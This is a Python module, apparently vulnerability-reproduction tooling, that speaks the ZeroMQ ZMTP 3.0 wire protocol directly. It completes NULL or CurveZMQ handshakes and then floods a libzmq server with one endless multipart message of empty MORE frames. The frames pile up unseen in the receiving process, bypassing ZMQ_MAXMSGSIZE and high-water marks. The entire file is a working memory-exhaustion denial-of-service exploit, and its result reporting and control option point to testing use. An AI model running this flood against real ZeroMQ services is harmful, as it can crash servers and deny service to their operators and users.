"""A raw ZMTP 3.0 peer that streams the frames of one endless multipart message.

libzmq checks ZMQ_MAXMSGSIZE per frame and counts the high-water mark in whole messages, so the
frames of a message that never ends pile up inside the receiving process (in the session's
unflushed pipe), where the application cannot see them. A real libzmq sender cannot do this:
its own pipe holds an incomplete message back too. So this module speaks the wire protocol
itself, over a plain TCP socket.

* ``null_more_flood``: NULL mechanism (greeting, READY with Socket-Type DEALER), then empty
  frames with the MORE flag (``01 00``, 2 bytes on the wire, 64 bytes of ``msg_t`` held).
* ``curve_more_flood``: CurveZMQ client handshake (HELLO, WELCOME, INITIATE, READY/ERROR) with
  any key pair, then MESSAGE commands whose boxed flags say MORE. Needs libsodium (the copy
  pyzmq's wheels bundle is found first).

Both stop after ``total_bytes`` of flood bytes, at ``deadline_s``, or when the server closes
the connection, whichever comes first, then half-close and wait for the server to hang up (so
that it has read every byte sent), and report what happened; neither raises on a refused or
reset connection (that is a result).
"""

from __future__ import annotations

import ctypes
import ctypes.util
import glob
import os
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

__all__ = [
    "EMPTY_MORE_FRAME",
    "FloodResult",
    "curve_more_flood",
    "greeting",
    "null_more_flood",
    "ready_command",
    "sodium_available",
]

# flags 0x01 (MORE, short frame), size 0x00: an empty frame that says "more to come".
EMPTY_MORE_FRAME = b"\x01\x00"

_FLAG_MORE = 0x01
_FLAG_LONG = 0x02
_FLAG_COMMAND = 0x04


@dataclass(frozen=True)
class FloodResult:
    """What one flood did.

    Attributes:
        handshake_ok: The server completed the handshake (sent READY).
        reply: The server's first handshake command after ours, e.g. b"READY" or b"ERROR ...",
            or "" when the connection closed before one came.
        bytes_sent: Flood bytes accepted by the kernel (handshake bytes not counted).
        frames_sent: Flood frames in those bytes (complete frames only).
        closed_by_peer: The server reset or closed the connection during the flood.
        seconds: Wall time of the flood phase.
    """

    handshake_ok: bool
    reply: str
    bytes_sent: int
    frames_sent: int
    closed_by_peer: bool
    seconds: float


# -- ZMTP 3.0 framing -----------------------------------------------------------------------


def greeting(mechanism: str, as_server: bool = False) -> bytes:
    """The 64-byte ZMTP 3.0 greeting."""
    name = mechanism.encode("ascii")
    if len(name) > 20:
        raise ValueError("mechanism name longer than 20 bytes")
    signature = b"\xff" + bytes(8) + b"\x7f"
    return (
        signature
        + bytes([3, 0])  # version 3.0
        + name.ljust(20, b"\x00")
        + bytes([1 if as_server else 0])
        + bytes(31)  # filler
    )


def frame(body: bytes, *, more: bool = False, command: bool = False) -> bytes:
    """One ZMTP 3.x frame (short or long form)."""
    flags = (_FLAG_MORE if more else 0) | (_FLAG_COMMAND if command else 0)
    if len(body) <= 255:
        return bytes([flags, len(body)]) + body
    return bytes([flags | _FLAG_LONG]) + struct.pack(">Q", len(body)) + body


def properties(**props: bytes) -> bytes:
    """ZMTP metadata: name-length(1) name value-length(4, big-endian) value, per property."""
    out = bytearray()
    for key, value in props.items():
        name = key.replace("_", "-").encode("ascii")
        out += bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
    return bytes(out)


def ready_command(socket_type: bytes = b"DEALER") -> bytes:
    """The NULL mechanism's READY command body."""
    return b"\x05READY" + properties(Socket_Type=socket_type)


def _recv_exact(sock: socket.socket, n: int) -> bytes:
    buf = bytearray()
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed by peer")
        buf += chunk
    return bytes(buf)


def _recv_frame(sock: socket.socket) -> tuple[int, bytes]:
    flags = _recv_exact(sock, 1)[0]
    if flags & _FLAG_LONG:
        (size,) = struct.unpack(">Q", _recv_exact(sock, 8))
    else:
        size = _recv_exact(sock, 1)[0]
    if size > 1 << 20:
        raise ConnectionError(f"handshake frame of {size} bytes")
    return flags, _recv_exact(sock, size)


def _send_last(sock: socket.socket, data: bytes) -> bool:
    """Send the frame that ends the message; True if the server has hung up."""
    try:
        sock.settimeout(5.0)
        sock.sendall(data)
    except OSError:
        return True
    return False


def _hang_up(sock: socket.socket, timeout_s: float = 2.0) -> None:
    """Half-close and drain until the server closes too: a plain close() with unread bytes
    (heartbeat PINGs) would send RST and make the server's kernel drop the flood's tail."""
    try:
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(timeout_s)
        while sock.recv(65536):
            pass
    except OSError:
        pass


def _command_name(body: bytes) -> str:
    if not body:
        return ""
    return body[1 : 1 + body[0]].decode("ascii", "replace")


def _stream(
    sock: socket.socket,
    block: bytes,
    frame_len: int,
    total_bytes: int,
    deadline: float,
    next_block: Callable[[], bytes] | None = None,
) -> tuple[int, bool]:
    """Send ``block`` (or successive ``next_block()``) until total_bytes, the deadline or a
    hang-up; returns (bytes sent, closed by peer)."""
    sent = 0
    while sent < total_bytes and time.monotonic() < deadline:
        data = block if next_block is None else next_block()
        want = min(len(data), total_bytes - sent)
        want -= want % frame_len
        if want <= 0:
            break
        view = memoryview(data)[:want]
        try:
            while view:
                sock.settimeout(max(0.05, deadline - time.monotonic()))
                n = sock.send(view)
                sent += n
                view = view[n:]
        except TimeoutError:
            return sent, False
        except OSError:  # ECONNRESET / EPIPE: the server hung up
            return sent, True
    return sent, False


# -- NULL mechanism -------------------------------------------------------------------------


def null_more_flood(
    host: str,
    port: int,
    total_bytes: int,
    *,
    deadline_s: float = 30.0,
    block_bytes: int = 1 << 20,
    connect_timeout_s: float = 5.0,
    end_message: bool = False,
) -> FloodResult:
    """Handshake as a NULL-mechanism DEALER, then stream empty MORE frames.

    Args:
        host, port: The ROUTER's TCP endpoint.
        total_bytes: Flood bytes to send (2 per frame).
        deadline_s: Stop sending after this long (the server may stop reading).
        block_bytes: Bytes handed to the kernel per send call.
        connect_timeout_s: For the connection and the handshake.
        end_message: After the flood, send one empty frame without MORE (a control: the
            server then receives one message of frames_sent + 1 frames).
    """
    deadline = time.monotonic() + deadline_s
    block = EMPTY_MORE_FRAME * (block_bytes // len(EMPTY_MORE_FRAME))
    with socket.create_connection((host, port), timeout=connect_timeout_s) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            sock.sendall(greeting("NULL"))
            sock.sendall(frame(ready_command(), command=True))
            _recv_exact(sock, 64)  # the server's greeting
            _, body = _recv_frame(sock)
        except OSError:
            return FloodResult(False, "", 0, 0, True, 0.0)
        reply = _command_name(body)
        if reply != "READY":
            return FloodResult(False, reply, 0, 0, False, 0.0)
        start = time.monotonic()
        sent, closed = _stream(sock, block, 2, total_bytes, deadline)
        seconds = time.monotonic() - start
        if not closed:
            if end_message:
                closed = _send_last(sock, frame(b""))
            _hang_up(sock)
        return FloodResult(True, reply, sent, sent // 2, closed, seconds)


# -- CurveZMQ -------------------------------------------------------------------------------


def _load_sodium() -> ctypes.CDLL | None:
    candidates: list[str] = []
    try:
        import zmq

        libs = Path(zmq.__file__).resolve().parent.parent / "pyzmq.libs"
        candidates += sorted(glob.glob(str(libs / "libsodium*.so*")))
        candidates += sorted(
            glob.glob(str(Path(zmq.__file__).resolve().parent / ".dylibs" / "libsodium*"))
        )
    except ImportError:
        pass
    found = ctypes.util.find_library("sodium")
    if found:
        candidates.append(found)
    for path in candidates:
        try:
            lib = ctypes.CDLL(path)
            if lib.sodium_init() >= 0:
                return lib
        except OSError:
            continue
    return None


_SODIUM: ctypes.CDLL | None = None


def _sodium() -> ctypes.CDLL:
    global _SODIUM
    if _SODIUM is None:
        _SODIUM = _load_sodium()
        if _SODIUM is None:
            raise RuntimeError("libsodium not found (needed for the CurveZMQ flood)")
    return _SODIUM


def sodium_available() -> bool:
    """Whether curve_more_flood can run here."""
    try:
        _sodium()
    except RuntimeError:
        return False
    return True


def _box(plain: bytes, nonce: bytes, public: bytes, secret: bytes) -> bytes:
    out = ctypes.create_string_buffer(len(plain) + 16)
    if _sodium().crypto_box_easy(out, plain, ctypes.c_ulonglong(len(plain)), nonce, public, secret):
        raise RuntimeError("crypto_box_easy failed")
    return out.raw


def _unbox(boxed: bytes, nonce: bytes, public: bytes, secret: bytes) -> bytes:
    out = ctypes.create_string_buffer(max(len(boxed) - 16, 1))
    if _sodium().crypto_box_open_easy(
        out, boxed, ctypes.c_ulonglong(len(boxed)), nonce, public, secret
    ):
        raise ConnectionError("cannot open the server's box (wrong server key?)")
    return out.raw[: len(boxed) - 16]


def _keypair() -> tuple[bytes, bytes]:
    public, secret = ctypes.create_string_buffer(32), ctypes.create_string_buffer(32)
    _sodium().crypto_box_keypair(public, secret)
    return public.raw, secret.raw


def curve_more_flood(
    host: str,
    port: int,
    server_public: bytes,
    client_public: bytes,
    client_secret: bytes,
    total_bytes: int,
    *,
    deadline_s: float = 30.0,
    frames_per_block: int = 4096,
    connect_timeout_s: float = 5.0,
    end_message: bool = False,
) -> FloodResult:
    """CurveZMQ handshake with the given long-term client keys, then MESSAGEs that say MORE.

    Keys are raw 32-byte values (``zmq.utils.z85.decode`` of the Z85 text). Each flood frame is a
    MESSAGE command boxing one flags byte (MORE) and no data: 35 bytes on the wire. If the
    server's ZAP handler refuses the key it answers ERROR; the flood is then attempted anyway,
    to show that it goes nowhere. ``end_message`` as for ``null_more_flood``.
    """
    lib = _sodium()
    deadline = time.monotonic() + deadline_s
    cn_public, cn_secret = _keypair()
    nonce = 1

    def short_nonce() -> bytes:
        nonlocal nonce
        value = struct.pack(">Q", nonce)
        nonce += 1
        return value

    with socket.create_connection((host, port), timeout=connect_timeout_s) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            sock.sendall(greeting("CURVE"))
            _recv_exact(sock, 64)
            # HELLO: version, 72 bytes padding, C', short nonce, Box[64 zeros](C'->S)
            sn = short_nonce()
            hello_box = _box(bytes(64), b"CurveZMQHELLO---" + sn, server_public, cn_secret)
            hello = b"\x05HELLO" + b"\x01\x00" + bytes(72) + cn_public + sn + hello_box
            sock.sendall(frame(hello, command=True))
            # WELCOME: long nonce (16), Box[S' + cookie](S->C')
            _, welcome = _recv_frame(sock)
            if _command_name(welcome) != "WELCOME" or len(welcome) != 168:
                return FloodResult(False, _command_name(welcome), 0, 0, False, 0.0)
            plain = _unbox(welcome[24:], b"WELCOME-" + welcome[8:24], server_public, cn_secret)
            sn_public, cookie = plain[:32], plain[32:128]
            # INITIATE: cookie, short nonce, Box[C + vouch nonce + vouch + metadata](C'->S')
            vouch_nonce = os.urandom(16)
            vouch = _box(
                cn_public + server_public, b"VOUCH---" + vouch_nonce, sn_public, client_secret
            )
            metadata = properties(Socket_Type=b"DEALER")
            sn = short_nonce()
            initiate_box = _box(
                client_public + vouch_nonce + vouch + metadata,
                b"CurveZMQINITIATE" + sn,
                sn_public,
                cn_secret,
            )
            sock.sendall(frame(b"\x08INITIATE" + cookie + sn + initiate_box, command=True))
            # READY or ERROR (ZAP said no): read it, but flood either way.
            try:
                _, answer = _recv_frame(sock)
                reply = _command_name(answer)
                if reply == "ERROR" and len(answer) > 6:  # "\x05ERROR", reason length, reason
                    reply = "ERROR " + answer[7 : 7 + answer[6]].decode("ascii", "replace")
            except (ConnectionError, OSError):
                reply = ""
        except (ConnectionError, OSError):
            return FloodResult(False, "", 0, 0, True, 0.0)

        precom = ctypes.create_string_buffer(32)
        lib.crypto_box_beforenm(precom, sn_public, cn_secret)
        flags_more = bytes([_FLAG_MORE])
        out = ctypes.create_string_buffer(17)
        wire_frame_len = 2 + 8 + 8 + 17  # frame header + "\x07MESSAGE" + short nonce + box

        one = ctypes.c_ulonglong(1)

        def message(flags: bytes) -> bytes:
            # libzmq sends MESSAGE with plain outer flags (0x00, 33 bytes); MORE is in the box.
            sn = short_nonce()
            lib.crypto_box_easy_afternm(out, flags, one, b"CurveZMQMESSAGEC" + sn, precom)
            return b"\x00\x21\x07MESSAGE" + sn + out.raw

        def next_block() -> bytes:
            return b"".join(message(flags_more) for _ in range(frames_per_block))

        start = time.monotonic()
        sent, closed = _stream(sock, b"", wire_frame_len, total_bytes, deadline, next_block)
        seconds = time.monotonic() - start
        if not closed:
            if end_message:
                closed = _send_last(sock, message(b"\x00"))
            _hang_up(sock)
        return FloodResult(reply == "READY", reply, sent, sent // wire_frame_len, closed, seconds)
